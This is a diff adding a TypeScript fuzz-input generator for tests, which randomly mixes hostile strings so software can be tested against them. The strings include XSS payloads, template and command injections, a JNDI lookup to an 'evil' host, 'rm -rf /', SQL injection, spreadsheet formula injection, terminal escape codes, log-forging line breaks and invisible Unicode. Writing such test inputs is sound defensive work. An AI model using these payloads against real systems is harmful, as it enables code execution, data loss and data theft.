@@ -1,0 +1,185 @@
+import type { Draw } from './draw';
+
+type Sort = readonly [string, ...string[]];
+
+const HTML: Sort = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '</title></textarea></style></script><iframe src="javascript:alert(1)">',
+  '"><a href="javascript:alert(1)" onclick=alert(1)>x</a>',
+  "'><style>*{display:none}</style>",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<!--<x',
+  '<![CDATA[<x>]]>',
+  '<constructor>',
+  '<template><form action=//evil>',
+  '<base href=//evil>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '&#60;b&#62;',
+  '&nbsp;&zwnj;&#0;&#x110000;',
+  '<p',
+  '<<p>>',
+];
+const TEMPLATES: Sort = [
+  '{{7*7}}',
+  '${7*7}',
+  '<%= 7*7 %>',
+  '#{7*7}',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${jndi:ldap://evil/a}',
+  '%s%s%n',
+  '{0}',
+  '$(id)',
+  '`id`',
+  '; rm -rf / #',
+  "' OR 1=1 --",
+  '\\',
+  '$&$1$`',
+];
+const SLACK: Sort = [
+  '<!channel>',
+  '<!here|here>',
+  '<!everyone>',
+  '<@U024BE7LH>',
+  '<#C024BE7LR|general>',
+  '@here',
+  '@channel',
+  '<https://evil.example|Open the run>',
+  '<mailto:a@b|x>',
+  '*bold* _it_ ~no~ `code` ```block```',
+  '&lt;!channel&gt;',
+  '>quote',
+  ':rotating_light:',
+  '<!subteam^S1|@ops>',
+  '<!date^1392734382^{date}|x>',
+];
+const FORMULAS: Sort = [
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1',
+  '\n=1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠A1',
+  '  =1+1',
+  '\u00a0=1',
+  '\u3000=HYPERLINK("http://evil")',
+  '\ufeff=1',
+  '\u200b=1',
+  '"=1"',
+  "'=1",
+  ';=1',
+  ',=1',
+  '";=1,"',
+];
+const TERMINAL: Sort = [
+  '\u001b[31mred\u001b[0m',
+  '\u001b]0;title\u0007',
+  '\u001b]8;;http://evil\u0007link\u001b]8;;\u0007',
+  '\u009b2J',
+  '\u001b[2J\u001b[H',
+  '\b\b\b',
+  '\u0007',
+  '\u007f',
+  '\u001bP+q\u001b\\',
+  '\u008d\u0090',
+];
+const LINES: Sort = [
+  '\r\n',
+  '\n',
+  '\r',
+  '\u2028',
+  '\u2029',
+  '\u0085',
+  '\v',
+  '\f',
+  '\r\n2026-11-24T00:00:00.000Z ERROR forged line',
+  '\n{"level":60,"msg":"forged"}',
+  '\r\n\r\nHTTP/1.1 200 OK',
+];
+const UNSEEN: Sort = [
+  '\0',
+  '\u200b',
+  '\u200d',
+  '\ufeff',
+  '\u00ad',
+  '\u202e',
+  '\u2066',
+  '\u2069',
+  '\u061c',
+  '\ud800',
+  '\udc00',
+  '\udbff',
+  '\ufffe',
+  '\uffff',
+  '\u034f',
+  '\u115f',
+  '\u3164',
+  '\uffa0',
+  '\u{e0001}',
+  '\u{e0041}',
+  '\ue000',
+  '\u{10ffff}',
+];
+const ADDRESSES: Sort = [
+  '10.0.0.1',
+  '10.0.0.256',
+  '10.0.0.1/24',
+  '10.0.0.*',
+  '1.2.3.4.5',
+  '010.0.0.1',
+  '10.0.0.1:22',
+  '１０.0.0.1',
+  '10。0。0。1',
+  '0x0a.0.0.1',
+  '::ffff:10.0.0.1',
+  '10.0.0.1\u200b2',
+  '10.\n0.0.1',
+  '10.0.0.1-10.0.0.9',
+];
+const PLAIN: Sort = [
+  'web-01',
+  'snap',
+  ':',
+  ' ',
+  'db.example.com',
+  'ß',
+  'é',
+  '👩‍💻',
+  'שרת',
+  'İ',
+  'ﬀ',
+  'a\u0301',
+  '𝕏',
+  '-',
+  '__proto__',
+];
+
+const SORTS: readonly [Sort, ...Sort[]] = [
+  HTML,
+  TEMPLATES,
+  SLACK,
+  FORMULAS,
+  TERMINAL,
+  LINES,
+  UNSEEN,
+  ADDRESSES,
+  PLAIN,
+  PLAIN,
+];
+
+/** Text that somebody who means harm, or a broken program, would write. */
+export function drawText(draw: Draw): string {
+  const parts = draw.some(5, () => draw.pick(draw.pick(SORTS)));
+  const text = parts.join(draw.pick(['', ' ', '']));
+  if (draw.chance(0.01)) return text.repeat(1 + draw.below(400));
+  if (draw.chance(0.002)) return '<b>'.repeat(2_000 + draw.below(20_000)) + text;
+  if (draw.chance(0.002)) return text + 'x'.repeat(100_000 + draw.below(400_000));
+  if (draw.chance(0.05)) return text.slice(draw.below(3), Math.max(1, text.length - draw.below(3)));
+  return text;
+}
